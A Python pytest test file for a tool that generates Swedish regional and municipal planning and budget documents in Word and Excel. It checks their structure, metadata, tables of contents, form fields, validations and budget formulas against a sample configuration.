"""Documents: every kind rendered for a small configuration, reopened and checked."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import time
import zlib
from datetime import date
from pathlib import Path

import jinja2
import openpyxl
import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn

from config.schema import OrgConfig, Unit
from models.errors import UserError
from tasks.documents import catalog, content, excel, text, word
from tasks.documents.catalog import KINDS, documents_for_phase, render
from tasks.documents.model import DocRequest
from tasks.documents.sanitize import cell_text, clean_text, safe_filename, safe_path

PLAN_YEAR = 2028
CREATED = date(2027, 1, 15)


# ---------------------------------------------------------------------------
# A configuration built in Python (the sample YAML files are maintained elsewhere)
# ---------------------------------------------------------------------------


def _rule(rule: str, year_offset: int = 0) -> dict[str, object]:
    return {"rule": rule, "year_offset": year_offset}


def make_config(committees: int = 2, administrations: int = 1, units: int = 2, *, kind: str = "region") -> OrgConfig:
    """A region (or municipality) with the given number of committees, administrations per
    committee and units per administration. Planning for plan year Y runs in Y-1."""
    region = kind == "region"
    a, b, w = ("RF", "RS", "RSAU") if region else ("KF", "KS", "KSAU")
    unit_list: list[dict[str, object]] = [
        {"id": a.lower(), "name": "Regionfullmäktige" if region else "Kommunfullmäktige", "level": "assembly"},
        {
            "id": b.lower(),
            "name": "Regionstyrelsen" if region else "Kommunstyrelsen",
            "level": "board",
            "parent": a.lower(),
        },
        {
            "id": w.lower(),
            "name": f"{'Regionstyrelsens' if region else 'Kommunstyrelsens'} arbetsutskott",
            "level": "board",
            "parent": b.lower(),
        },
        {"id": "ekonomi", "name": "Ekonomistaben", "level": "administration", "parent": b.lower()},
    ]
    committee_names = [
        "Hälso- och sjukvårdsnämnden",
        "Regionala utvecklingsnämnden",
        "Kulturnämnden",
        "Kollektivtrafiknämnden",
        "Tandvårdsnämnden",
        "Patientnämnden",
    ]
    frames: dict[str, int] = {}
    for c in range(committees):
        cid = f"n{c + 1}"
        name = committee_names[c] if c < len(committee_names) else f"Nämnd {c + 1}"
        unit_list.append({"id": cid, "name": name, "level": "committee", "parent": a.lower()})
        frames[cid] = 1_250_000 + 100_000 * c
        for f in range(administrations):
            fid = f"{cid}f{f + 1}"
            unit_list.append(
                {"id": fid, "name": f"Förvaltning {c + 1}.{f + 1}", "level": "administration", "parent": cid}
            )
            for e in range(units):
                unit_list.append(
                    {"id": f"{fid}e{e + 1}", "name": f"Enhet {c + 1}.{f + 1}.{e + 1}", "level": "unit", "parent": fid}
                )

    phases = [
        ("preparation", "Förberedelser", b.lower(), _rule("1 October", -2), _rule("31 January", -1), "prep_done"),
        (
            "planning_prerequisites",
            "Planeringsförutsättningar",
            b.lower(),
            _rule("1 January", -1),
            _rule("9 March", -1),
            "pf_decided",
        ),
        (
            "committee_feedback",
            "Nämnderna behandlar PF",
            "n1",
            _rule("10 March", -1),
            _rule("16 April", -1),
            "feedback_due",
        ),
        (
            "regional_plan",
            "Beredning och beslut av regionplan",
            w.lower(),
            _rule("17 April", -1),
            _rule("30 June", -1),
            "plan_decided",
        ),
        (
            "operational_plans",
            "Verksamhetsplaner",
            "n1",
            _rule("1 February", -1),
            _rule("30 September", -1),
            "vp_decided",
        ),
        (
            "activity_plans",
            "Aktivitetsplaner och detaljbudget",
            "ekonomi",
            _rule("1 October", -1),
            _rule("15 December", -1),
            "ap_done",
        ),
        ("follow_up", "Uppföljning", "ekonomi", _rule("1 January"), _rule("31 January", 1), "annual_report_done"),
    ]
    wheel = {
        "if_day_off": "previous",
        "phases": [
            {
                "id": pid,
                "name": name,
                "owner": owner,
                "start": start,
                "end": end,
                "receipt_deadline": dl,
                "purpose": f"Syftet med fasen {name.lower()}.",
            }
            for pid, name, owner, start, end, dl in phases
        ],
        "milestones": [
            {
                "id": "prep_done",
                "name": "Planeringsunderlag klart",
                "phase": "preparation",
                "owner": "ekonomi",
                "date": _rule("15 December", -2),
            },
            {
                "id": "pf_decided",
                "name": "PF beslutas i RS",
                "phase": "planning_prerequisites",
                "owner": b.lower(),
                "date": _rule("same day as rs_pf", -1),
            },
            {
                "id": "feedback_due",
                "name": "Nämndernas återkoppling",
                "phase": "committee_feedback",
                "owner": "n1",
                "date": _rule("16 April", -1),
            },
            {
                "id": "plan_decided",
                "name": "Regionplan beslutad",
                "phase": "regional_plan",
                "owner": a.lower(),
                "date": _rule("same day as rf_plan", -1),
            },
            {
                "id": "vp_decided",
                "name": "Verksamhetsplaner beslutade",
                "phase": "operational_plans",
                "owner": "n1",
                "date": _rule("30 September", -1),
            },
            {
                "id": "ap_done",
                "name": "Aktivitetsplaner klara",
                "phase": "activity_plans",
                "owner": "ekonomi",
                "date": _rule("15 December", -1),
            },
            {
                "id": "annual_report_done",
                "name": "Årsredovisning klar",
                "phase": "follow_up",
                "owner": "ekonomi",
                "date": _rule("last working day of February", 1),
            },
        ],
        "meetings": [
            {
                "id": "kickoff",
                "name": "Kickoff planeringsförutsättningar",
                "phase": "planning_prerequisites",
                "organiser": b.lower(),
                "date": _rule("10 February", -1),
                "participants": [b.lower(), "n1"],
                "purpose": "Majoritetens förslag till PF presenteras.",
                "goal": "Alla nämnder känner till förutsättningarna.",
                "kind": "information",
            },
            {
                "id": "rs_pf",
                "name": "RS beslutar om PF",
                "phase": "planning_prerequisites",
                "organiser": b.lower(),
                "date": _rule("9 March", -1),
                "participants": [b.lower()],
                "purpose": "Beslut om planeringsförutsättningar.",
                "goal": "PF fastställda.",
                "kind": "decision",
            },
            {
                "id": "styrdialog",
                "name": "Styrdialog",
                "phase": "committee_feedback",
                "organiser": w.lower(),
                "date": _rule("5 working days after feedback_due", -1),
                "participants": [w.lower(), "n1"],
                "purpose": "Dialog om nämndens återkoppling.",
                "goal": "Gemensam bild av prioriteringar.",
                "kind": "influence",
            },
            {
                "id": "rsau_plan",
                "name": "Arbetsutskottet bereder regionplanen",
                "phase": "regional_plan",
                "organiser": w.lower(),
                "date": _rule("2 June", -1),
                "participants": [w.lower()],
                "purpose": "Beredning.",
                "goal": "Förslag till RS.",
                "kind": "decision",
            },
            {
                "id": "rs_plan",
                "name": "RS behandlar regionplanen",
                "phase": "regional_plan",
                "organiser": b.lower(),
                "date": _rule("9 June", -1),
                "participants": [b.lower()],
                "purpose": "Förslag till RF.",
                "goal": "Förslag till RF.",
                "kind": "decision",
            },
            {
                "id": "rf_plan",
                "name": "RF beslutar om regionplanen",
                "phase": "regional_plan",
                "organiser": a.lower(),
                "date": _rule("20 June", -1),
                "participants": [a.lower()],
                "purpose": "Beslut.",
                "goal": "Regionplan fastställd.",
                "kind": "decision",
            },
        ],
    }
    goals = [
        {
            "id": "m1",
            "area": "Invånare",
            "title": "God och jämlik hälsa",
            "indicators": [
                {"id": "i1", "name": "Självskattad hälsa", "target": 75, "unit": "%", "kolada_id": "U01405"},
                {"id": "i2", "name": "Väntetid till första besök", "target": 30.5, "unit": "dagar"},
            ],
        },
        {
            "id": "m2",
            "area": "Tillväxt",
            "title": "Attraktiv region | att bo i",
            "targeted": ["n2"],
            "opt_out_allowed": True,
        },
        {
            "id": "m3",
            "area": "Medarbetare",
            "title": "Hållbar kompetensförsörjning, arbetsmiljö och ledarskap",
            "targeted": ["n1"],
            "indicators": [{"id": "i3", "name": "Sjukfrånvaro", "target": 5.0, "unit": "%"}],
        },
    ]
    data = {
        "organisation": {
            "id": "region_test" if region else "kommun_test",
            "name": "Region Testland" if region else "Testby kommun",
            "kind": kind,
            "roles": {
                "assembly": a.lower(),
                "executive_board": b.lower(),
                "working_committee": w.lower(),
                "finance": "ekonomi",
            },
        },
        "levels": [
            {"id": "assembly", "name": "Fullmäktige"},
            {"id": "board", "name": "Styrelse"},
            {"id": "committee", "name": "Nämnd"},
            {"id": "administration", "name": "Förvaltning"},
            {"id": "unit", "name": "Enhet"},
        ],
        "units": unit_list,
        "wheel": wheel,
        "follow_up": {"monthly_checks": [4, 6, 10], "forecasts": [2, 5], "interim_reports": ["31 March", "31 August"]},
        "goals": goals,
        "budget": {"frames": frames, "growth_percent": 2.5},
        "vision": "Ett gott liv i hela regionen.",
    }
    return OrgConfig.model_validate(data)


@pytest.fixture(scope="module")
def cfg() -> OrgConfig:
    return make_config()


@pytest.fixture(scope="module")
def rendered(cfg: OrgConfig, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list]]:
    """Every document of every phase of the small configuration."""
    root = tmp_path_factory.mktemp("docs")
    out: dict[str, list] = {}
    for phase in (
        "preparation",
        "planning_prerequisites",
        "committee_feedback",
        "regional_plan",
        "operational_plans",
        "activity_plans",
        "follow_up",
    ):
        for req in documents_for_phase(cfg, PLAN_YEAR, phase):
            out.setdefault(req.kind, []).append(render(cfg, PLAN_YEAR, req, root, created=CREATED))
    return root, out


def _first(rendered: tuple[Path, dict[str, list]], kind: str) -> tuple[Path, object]:
    root, docs = rendered
    doc = docs[kind][0]
    return root / doc.relpath, doc


DOCX_KINDS = sorted(k for k, spec in KINDS.items() if spec.format == "docx")
XLSX_KINDS = sorted(k for k, spec in KINDS.items() if spec.format == "xlsx")
TOC_KINDS = {
    "planeringsunderlag",
    "planeringsforutsattningar",
    "regionplan_forslag",
    "regionplan_beslutad",
    "verksamhetsplan",
    "aterkoppling",
    "uppfoljning_berattelse",
}


# ---------------------------------------------------------------------------
# The catalog
# ---------------------------------------------------------------------------


def test_every_kind_is_rendered_for_its_recipients(cfg: OrgConfig, rendered) -> None:
    root, docs = rendered
    assert set(docs) == set(KINDS)
    committees = {u.id for u in cfg.committees()}
    for kind in (
        "planeringsforutsattningar",
        "pf_bilagor",
        "aterkoppling",
        "regionplan_beslutad",
        "verksamhetsplan",
        "verksamhetsplan_mall",
    ):
        assert {d.unit_id for d in docs[kind]} == committees, kind
    assert {d.unit_id for d in docs["planeringsunderlag"]} == {"rs"}
    # The draft plan goes through the decision chain: working committee, executive board, assembly.
    assert {d.unit_id for d in docs["regionplan_forslag"]} == {"rsau", "rs", "rf"}
    assert {d.unit_id for d in docs["aktivitetsplan"]} == {u.id for u in cfg.units_at("administration")}
    # Every unit reports to its parent; the assembly has none and the working committee only prepares.
    reporting = {u.id for u in cfg.units} - {"rf", "rsau"}
    assert {d.unit_id for d in docs["uppfoljning"]} == {d.unit_id for d in docs["uppfoljning_berattelse"]} == reporting
    for kind, items in docs.items():
        for d in items:
            path = root / d.relpath
            assert path.is_file() and path.stat().st_size > 0
            assert d.relpath == f"{PLAN_YEAR}/{d.phase_id}/{path.name}"
            assert path.suffix == f".{d.format}" == f".{KINDS[kind].format}"
            assert d.doc_key == f"region_test/{PLAN_YEAR}/{d.phase_id}/{d.unit_id}/{kind}/v1"
            assert re.fullmatch(r"[0-9a-f]{64}", d.content_hash)
    # Nothing half-written is left behind.
    assert not [p for p in root.rglob("*") if p.name.startswith(".~")]


def test_unknown_phase_kind_or_unit_is_a_user_error(cfg: OrgConfig, tmp_path: Path) -> None:
    with pytest.raises(UserError, match="unknown phase 'budget'"):
        documents_for_phase(cfg, PLAN_YEAR, "budget")
    with pytest.raises(UserError, match="unknown document kind"):
        render(cfg, PLAN_YEAR, DocRequest("protokoll", "preparation", "rs"), tmp_path)
    with pytest.raises(UserError, match="belongs to phase 'preparation'"):
        render(cfg, PLAN_YEAR, DocRequest("planeringsunderlag", "follow_up", "rs"), tmp_path)
    with pytest.raises(UserError, match="unknown unit 'nope'"):
        render(cfg, PLAN_YEAR, DocRequest("aterkoppling", "committee_feedback", "nope"), tmp_path)


def test_follow_up_occasions_get_their_own_keys_and_files(cfg: OrgConfig, tmp_path: Path) -> None:
    reqs = documents_for_phase(cfg, PLAN_YEAR, "follow_up", occasion="delar-2028-08-31")
    assert all(r.get("occasion_key") == "delar-2028-08-31" for r in reqs)
    assert reqs[0].get("occasion") == "Delårsrapport per 31 augusti 2028"
    doc = render(cfg, PLAN_YEAR, reqs[0], tmp_path, created=CREATED)
    assert doc.title == f"Uppföljning – Delårsrapport per 31 augusti 2028 – {cfg.unit(reqs[0].unit_id).name}"
    assert doc.doc_key == f"region_test/2028/follow_up/{reqs[0].unit_id}/uppfoljning-delar-2028-08-31/v1"
    assert doc.relpath == f"2028/follow_up/{reqs[0].unit_id}_uppfoljning_delar-2028-08-31_v1.xlsx"
    # Two occasions of one unit and kind never share a key or a file.
    march = documents_for_phase(cfg, PLAN_YEAR, "follow_up", occasion="delar-2028-03-31")[0]
    assert catalog.doc_key(cfg, PLAN_YEAR, march) != doc.doc_key
    assert catalog.file_name(march, "xlsx") != Path(doc.relpath).name
    # A name without a key still gets a distinct, safe key.
    named = DocRequest("uppfoljning", "follow_up", "n1", extra={"occasion": "Delår 31 augusti"})
    assert catalog.doc_key(cfg, PLAN_YEAR, named).endswith("/n1/uppfoljning-delar-31-augusti/v1")
    with pytest.raises(UserError, match="unknown follow-up occasion"):
        documents_for_phase(cfg, PLAN_YEAR, "follow_up", occasion="delar-2028-09-31")
    with pytest.raises(UserError, match="only the follow-up phase"):
        documents_for_phase(cfg, PLAN_YEAR, "preparation", occasion="delar-2028-08-31")


# ---------------------------------------------------------------------------
# Word
# ---------------------------------------------------------------------------


def _heading_texts(doc, level: int | None = None) -> list[str]:
    names = {f"Heading {level}"} if level else {"Heading 1", "Heading 2", "Heading 3"}
    return [p.text for p in doc.paragraphs if p.style.name in names]


@pytest.mark.parametrize("kind", DOCX_KINDS)
def test_docx_structure(kind: str, rendered) -> None:
    path, meta = _first(rendered, kind)
    doc = Document(path)
    cp = doc.core_properties
    assert cp.identifier == meta.doc_key == word.read_identifier(path)
    assert cp.title == meta.title and cp.author == "Region Testland"
    assert cp.version == "1" and cp.language == "sv-SE" and "styrkedja" in cp.keywords
    assert _heading_texts(doc, 1) or _heading_texts(doc, 2)
    body_xml = doc.element.body.xml
    assert (kind in TOC_KINDS) == ('TOC \\o "1-2" \\h \\z \\u' in body_xml), kind
    assert word.TOC_PLACEHOLDER not in body_xml  # every contents lists the headings
    # Cover page: title, cycle, recipient.
    texts = [p.text for p in doc.paragraphs[:12]]
    assert meta.title in texts and "Planår 2028, planperiod 2028–2031" in texts
    cover = [c.text for row in doc.tables[0].rows for c in row.cells]
    assert meta.doc_key not in cover and "Version" in cover  # the id is metadata, not cover text
    # Header and footer on every page: organisation, cycle, version, page fields.
    section = doc.sections[0]
    assert section.header.paragraphs[0].text.startswith("Region Testland")
    footer_xml = section.footer._element.xml
    assert "Planår 2028, planperiod 2028–2031 · Version 1" in section.footer.paragraphs[0].text
    assert 'w:instr="PAGE"' in footer_xml and 'w:instr="NUMPAGES"' in footer_xml
    assert round(section.page_width.cm, 1) == 21.0  # A4


def _toc_field(doc) -> tuple[list[tuple[str, str]], bool]:
    """The paragraphs inside the document's TOC field as (style id, text), and whether it is dirty."""
    body = doc.element.body
    begin = next(
        f
        for f in body.iter(qn("w:fldChar"))
        if f.get(qn("w:fldCharType")) == "begin"
        and "TOC" in "".join(t.text or "" for t in f.getparent().getparent().iter(qn("w:instrText")))
    )
    paragraphs = list(body.iterchildren(qn("w:p")))
    first = paragraphs.index(begin.getparent().getparent())
    entries: list[tuple[str, str]] = []
    for p in paragraphs[first:]:
        style = p.find(qn("w:pPr")).find(qn("w:pStyle")).get(qn("w:val"))
        entries.append((style, "".join(t.text or "" for t in p.iter(qn("w:t")))))
        if any(f.get(qn("w:fldCharType")) == "end" for f in p.iter(qn("w:fldChar"))):
            return entries, begin.get(qn("w:dirty")) == "true"
    raise AssertionError("the TOC field is not closed")


@pytest.mark.parametrize("kind", sorted(TOC_KINDS))
def test_toc_lists_every_heading(kind: str, rendered) -> None:
    """The TOC field's result is the document's level-1/2 headings, in order, as TOC1/TOC2
    paragraphs; it stays a dirty TOC field, so Word updates it (page numbers) when opened."""
    path, _ = _first(rendered, kind)
    doc = Document(path)
    headings = [
        ({"Heading 1": "TOC1", "Heading 2": "TOC2"}[p.style.name], " ".join(p.text.split()))
        for p in doc.paragraphs
        if p.style.name in ("Heading 1", "Heading 2") and p.text.strip()
    ]
    entries, dirty = _toc_field(doc)
    assert dirty and len(headings) >= 2
    assert entries == headings
    names = {st.style_id: st.name for st in doc.styles if st.type == WD_STYLE_TYPE.PARAGRAPH}
    assert {names[sid] for sid, _ in entries} == {"toc 1", "toc 2"}  # Word's built-in entry styles
    instr = "".join(t.text for t in doc.element.body.iter(qn("w:instrText")))
    assert instr.strip() == 'TOC \\o "1-2" \\h \\z \\u'


def test_toc_without_headings_keeps_the_placeholder() -> None:
    from tasks.documents.model import DocMeta

    meta = DocMeta("Org", 2028, 2031, "preparation", "Fas", "test", "Titel", "u1", "Enhet", 1, "o/x", CREATED)
    doc = word.build_docx(meta, "[[toc]]\n\nBara text.\n", {})
    entries, dirty = _toc_field(doc)
    assert entries == [("TOC1", word.TOC_PLACEHOLDER)] and dirty
    two = word.build_docx(meta, "[[toc]]\n# Ett\n## Två\n### Tre\n[[toc]]\n", {})
    xml = two.element.body.xml
    assert xml.count('fldCharType="begin"') == 2
    assert xml.count(">Två<") == 3 and xml.count(">Tre<") == 1  # in both contents; level 3 is not


def test_pf_has_the_table_of_contents_of_seed_001(rendered, cfg: OrgConfig) -> None:
    path, _ = _first(rendered, "planeringsforutsattningar")
    doc = Document(path)
    h1 = _heading_texts(doc, 1)
    expected = [
        "1 Organisation och styrning",
        "2 Vision, målområden och mål",
        "3 Förutsättningar, omvärld och utveckling",
        "4 Regionen i jämförelse",
        "5 Budget 2028 och plan för 2029–2031",
        "6 Fortsatt process och anvisningar",
        "Bilaga 1 Detaljerad tidplan",
        "Bilaga 2 Detaljerade ramberäkningar per nämnd",
        "Bilaga 3 Investeringsplan (2028–2032)",
        "Bilaga 4 Återrapporteringsmall för nämnderna",
        "Bilaga 5 Uppföljningsplan",
        "Bilaga 6 Intern kontroll",
    ]
    assert [h for h in h1 if h in expected] == expected
    # The timetable: every milestone and meeting of the wheel, in date order, with a repeated header.
    timetable = next(
        t for t in doc.tables if t.rows[0].cells[0].text == "Datum" and t.rows[0].cells[1].text == "Aktivitet"
    )
    dates = [r.cells[0].text for r in timetable.rows[1:]]
    assert len(dates) == len(cfg.wheel.milestones) + len(cfg.wheel.meetings)
    assert dates == sorted(dates) and "2027-03-09" in dates  # rs_pf, 9 March of the year before
    assert "w:tblHeader" in timetable._tbl.xml
    names = [r.cells[1].text for r in timetable.rows[1:]]
    assert "Kickoff planeringsförutsättningar" in names
    # The committee's own frame, grown by 2.5 % a year.
    frame = next(t for t in doc.tables if t.rows[0].cells[0].text == "År")
    assert [r.cells[1].text for r in frame.rows[1:]] == [
        "1\u00a0250\u00a0000",
        "1\u00a0281\u00a0250",
        "1\u00a0313\u00a0281",
        "1\u00a0346\u00a0113",
    ]


def test_feedback_fields_can_be_read_back(rendered, cfg: OrgConfig, tmp_path: Path) -> None:
    path, meta = _first(rendered, "aterkoppling")
    doc = Document(path)
    h2 = _heading_texts(doc, 2)
    labels = [label for _, label, _ in content.FEEDBACK_FIELDS]
    assert [h for h in h2 if h in labels] == labels
    assert "Risk- och känslighetsanalys" in h2
    bookmarks = re.findall(r'w:name="(sk_[a-z_]+)"', doc.element.body.xml)
    assert bookmarks == [f"sk_{name}" for name, _, _ in content.FEEDBACK_FIELDS]

    # The secretary types into the answer paragraphs (and adds one more line and a table).
    answers = [p for p in doc.paragraphs if p.style.name == word.ANSWER_STYLE]
    assert len(answers) == len(labels) and all(p.text == "" for p in answers)
    answers[0].add_run("Nämnden bidrar till målen genom tre satsningar.")
    answers[0].insert_paragraph_before("Första stycket.", style=word.ANSWER_STYLE)
    answers[6].add_run("Löneökningar över 3 % ryms inte.")
    filled = tmp_path / "filled.docx"
    doc.save(filled)
    fields = word.read_fields(filled)
    assert fields["bidrag_mal"] == "Första stycket.\nNämnden bidrar till målen genom tre satsningar."
    assert fields["risk_kanslighet"] == "Löneökningar över 3 % ryms inte."
    assert fields["ovriga_synpunkter"] == ""
    assert set(fields) == {name for name, _, _ in content.FEEDBACK_FIELDS}

    # Without the bookmarks (heading retyped), the heading text finds the field.
    doc = Document(filled)
    for bm in doc.element.body.xpath("//w:bookmarkStart | //w:bookmarkEnd"):
        bm.getparent().remove(bm)
    doc.save(filled)
    expected = catalog.expected_fields(cfg, PLAN_YEAR, DocRequest("aterkoppling", "committee_feedback", meta.unit_id))
    assert list(expected.values()) == labels
    fields = word.read_fields(filled, labels=expected)
    assert fields["risk_kanslighet"] == "Löneökningar över 3 % ryms inte."


def test_goal_fields_are_named_after_goals(cfg: OrgConfig) -> None:
    fields = catalog.expected_fields(cfg, PLAN_YEAR, DocRequest("verksamhetsplan", "operational_plans", "n1"))
    assert fields["mal_m1"] == "God och jämlik hälsa" and "mal_m3" in fields and "mal_m2" not in fields
    plan = catalog.expected_fields(cfg, PLAN_YEAR, DocRequest("regionplan_forslag", "regional_plan", "rsau"))
    assert plan["namnd_n1"] == "Hälso- och sjukvårdsnämnden" and plan["namnd_n2"] == "Regionala utvecklingsnämnden"


def test_dialogue_questions_of_seed_003(rendered) -> None:
    root, docs = rendered
    committee = next(d for d in docs["uppfoljning_berattelse"] if d.unit_id == "n1")
    unit = next(d for d in docs["uppfoljning_berattelse"] if d.unit_id == "n1f1e1")
    h2 = _heading_texts(Document(root / committee.relpath), 2)
    for q in (
        "Vilka tre saker är vi mest stolta över?",
        "Vilka tre saker ser vi som våra största utmaningar?",
        "Vilka tre lärdomar har vi gjort?",
        "Vad gör vi själva?",
        "Vad lyfter vi till nästa nivå?",
        "Vad vill vi dela med oss av?",
    ):
        assert q in h2
    assert "Hur påverkas de vi är till för på kort och lång sikt?" in h2
    assert "Hur påverkas de vi är till för på kort och lång sikt?" not in _heading_texts(
        Document(root / unit.relpath), 2
    )


def test_decision_record_uses_unit_names_and_extra(tmp_path: Path) -> None:
    muni = make_config(kind="municipality")
    req = DocRequest("regionplan_beslutad", "regional_plan", "n1")
    doc = Document(tmp_path / render(muni, PLAN_YEAR, req, tmp_path, created=CREATED).relpath)
    table = next(t for t in doc.tables if t.rows[0].cells[0].text == "Instans")
    rows = [[c.text for c in r.cells] for r in table.rows[1:]]
    assert [r[0] for r in rows] == ["Kommunstyrelsens arbetsutskott", "Kommunstyrelsen", "Kommunfullmäktige"]
    assert [r[1] for r in rows] == ["2027-06-02", "2027-06-09", "2027-06-18"]  # 20 June 2027 is a Sunday
    assert {r[4] for r in rows} == {"Planerat"}
    assert doc.core_properties.title == "Mål och budget 2028–2031 – beslutad"

    decided = DocRequest(
        "regionplan_beslutad",
        "regional_plan",
        "n1",
        version=2,
        extra={"assembly_date": "2027-06-21", "assembly_paragraph": "§ 45"},
    )
    doc = Document(tmp_path / render(muni, PLAN_YEAR, decided, tmp_path, created=CREATED).relpath)
    table = next(t for t in doc.tables if t.rows[0].cells[0].text == "Instans")
    last = [c.text for c in table.rows[3].cells]
    assert last[:3] == ["Kommunfullmäktige", "2027-06-21", "§ 45"] and last[4] == "Beslutat"


# ---------------------------------------------------------------------------
# Excel
# ---------------------------------------------------------------------------


def _validations(ws) -> list:
    return list(ws.data_validations.dataValidation)


def _validation_for(ws, cell: str):
    return next((dv for dv in _validations(ws) if cell in dv.sqref), None)


@pytest.mark.parametrize("kind", XLSX_KINDS)
def test_xlsx_structure(kind: str, rendered) -> None:
    path, meta = _first(rendered, kind)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[0] == "Instruktioner"
    assert wb.properties.identifier == meta.doc_key and wb.properties.version == "1"
    assert wb.properties.creator == "Region Testland" and wb.properties.title == meta.title
    hidden = wb["_styrkedja"]
    assert hidden.sheet_state == "hidden"
    info = {r[0]: r[1] for r in hidden.iter_rows(values_only=True)}
    assert info["doc_key"] == meta.doc_key and info["kind"] == kind and info["unit"] == meta.unit_id
    assert info["cycle"] == "2028" and info["version"] == "1" and info["phase"] == meta.phase_id
    assert excel.read_xlsx_meta(path)["doc_key"] == meta.doc_key
    instructions = wb["Instruktioner"]
    assert instructions["A1"].value == meta.title
    assert not any(c.value == meta.doc_key for c in instructions["B"])  # metadata only
    names = {s.name for s in wb._named_styles}
    assert {"sk_header", "sk_sek", "sk_text", "sk_percent", "sk_date", "sk_total"} <= names
    for ws in wb.worksheets:
        assert ws.protection.sheet, ws.title
        if ws.title in ("Instruktioner", "_styrkedja", "_listor", "Riskmatris"):
            continue
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert ws["A1"].style == "sk_header" and ws["A1"].font.b
        for cell in ws[2]:
            if cell.style.startswith("sk_input_"):
                assert cell.protection.locked is False
            elif cell.style.startswith("sk_"):
                assert cell.protection.locked is True


def test_pf_appendix_frames_and_totals(rendered, cfg: OrgConfig) -> None:
    path, _ = _first(rendered, "pf_bilagor")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:6] == [
        "Instruktioner",
        "Ramar per nämnd",
        "Investeringsplan",
        "Tidplan",
        "Uppföljningsplan",
        "Intern kontroll",
    ]
    ws = wb["Ramar per nämnd"]
    assert [c.value for c in ws[1]][:5] == ["Nämnd/styrelse", "2028", "2029", "2030", "2031"]
    assert [c.value for c in ws[2]][:5] == ["Hälso- och sjukvårdsnämnden", 1_250_000, 1_281_250, 1_313_281, 1_346_113]
    assert ws["B2"].number_format == '#,##0 "tkr"'
    assert ws["A4"].value == "Summa" and ws["B4"].value == "=SUM(B2:B3)" and ws["E4"].value == "=SUM(E2:E3)"
    assert ws["F2"].value == '=IF(N(B2)=0,"",E2/B2-1)' and ws["F2"].number_format == "0.0%"
    inv = wb["Investeringsplan"]
    assert [c.value for c in inv[1]][2:7] == ["2028", "2029", "2030", "2031", "2032"]
    assert inv["H2"].value == "=SUM(C2:G2)"
    assert _validation_for(inv, "A5").type == "list"
    tid = wb["Tidplan"]
    assert tid["A2"].number_format == "yyyy-mm-dd" and tid["A2"].value.date() == date(2026, 12, 15)
    assert tid.max_row == 1 + len(cfg.wheel.milestones) + len(cfg.wheel.meetings)
    ik = wb["Intern kontroll"]
    assert ik["E2"].value == '=IF(OR(C2="",D2=""),"",C2*D2)'


def test_operational_plan_template(rendered, cfg: OrgConfig) -> None:
    root, docs = rendered
    doc = next(d for d in docs["verksamhetsplan_mall"] if d.unit_id == "n2")
    wb = openpyxl.load_workbook(root / doc.relpath)
    assert wb.sheetnames[1:7] == [
        "Fullmäktiges mål",
        "Indikatorer",
        "Egna mål",
        "Åtaganden",
        "Intern kontroll",
        "Riskmatris",
    ]
    goals = wb["Fullmäktiges mål"]
    # n2 gets m1 (all committees) and m2 (targeted at n2, may be opted out of); not m3 (n1 only).
    # Goals by their titles: no goal id is shown.
    assert [goals.cell(r, 2).value for r in (2, 3)] == ["God och jämlik hälsa", "Attraktiv region | att bo i"]
    assert goals.max_row == 3 and "Mål-id" not in [c.value for c in goals[1]]
    assert goals["D2"].value == "–" and goals["D2"].protection.locked  # m1: no opting out
    assert goals["D3"].value is None and goals["D3"].protection.locked is False
    dv = _validation_for(goals, "D3")
    assert dv is not None and dv.type == "list" and dv.formula1 == '"Ja,Nej"'
    assert _validation_for(goals, "D2") is None

    ik = wb["Intern kontroll"]
    assert ik["B2"].value == "Felaktiga eller obehöriga utbetalningar"
    dv = _validation_for(ik, "C3")
    assert dv.type == "whole" and (dv.formula1, dv.formula2) == ("1", "4")
    assert ik["E10"].value == '=IF(OR(C10="",D10=""),"",C10*D10)'
    freq = _validation_for(ik, "G2")
    assert freq.type == "list" and "Kvartalsvis" in freq.formula1
    rules = [r for cf in ik.conditional_formatting for r in cf.rules]
    assert len(rules) == 4  # green, yellow, orange, red risk bands

    matrix = wb["Riskmatris"]
    assert matrix["C6"].value.startswith("=COUNTIFS('Intern kontroll'!$C$2:$C$")
    assert matrix["C6"].value.endswith(",4,'Intern kontroll'!$D$2:$D$18,1)")
    assert matrix["F6"].fill.fgColor.rgb.endswith(excel.RED) and matrix["C9"].fill.fgColor.rgb.endswith(excel.GREEN)

    own = wb["Egna mål"]
    choices = _validation_for(own, "C2")
    assert choices.type == "list" and choices.formula1 == '"God och jämlik hälsa,Attraktiv region | att bo i"'
    # A choice with a comma cannot stand in an inline list: the choices go to a hidden sheet.
    n1 = openpyxl.load_workbook(root / next(d for d in docs["verksamhetsplan_mall"] if d.unit_id == "n1").relpath)
    choices = _validation_for(n1["Egna mål"], "C2")
    assert choices.formula1 == "'_listor'!$A$1:$A$2" and n1["_listor"].sheet_state == "hidden"
    assert _validation_for(n1["Åtaganden"], "B2").formula1 == choices.formula1  # one list, used twice
    assert n1["_listor"]["A2"].value == "Hållbar kompetensförsörjning, arbetsmiljö och ledarskap"
    assert wb["Åtaganden"]["D2"].number_format == "yyyy-mm-dd"
    assert _validation_for(wb["Åtaganden"], "D2").type == "date"


def test_activity_plan_rows_per_unit_and_sums(rendered, cfg: OrgConfig) -> None:
    root, docs = rendered
    doc = next(d for d in docs["aktivitetsplan"] if d.unit_id == "n1f1")
    wb = openpyxl.load_workbook(root / doc.relpath)
    act = wb["Aktiviteter"]
    units = [act.cell(r, 1).value for r in range(2, act.max_row)]
    assert units == ["Enhet 1.1.1"] * 3 + ["Enhet 1.1.2"] * 3
    assert act.cell(act.max_row, 1).value == "Summa" and act.cell(act.max_row, 7).value == "=SUM(G2:G7)"
    budget = wb["Detaljbudget"]
    # Units by name, no unit code; the follow-up's budget lines, in its order.
    assert [budget.cell(r, 1).value for r in (2, 3)] == ["Enhet 1.1.1", "Enhet 1.1.2"]
    assert [c.value for c in budget[1]][1:6] == [
        "Intäkter (anges negativt)",
        "Personalkostnader",
        "Lokalkostnader",
        "Köpt verksamhet",
        "Övriga kostnader",
    ]
    assert budget["G2"].value == "=SUM(B2:F2)"
    assert budget["A4"].value == "Summa" and budget["C4"].value == "=SUM(C2:C3)" and budget["G4"].value == "=SUM(G2:G3)"
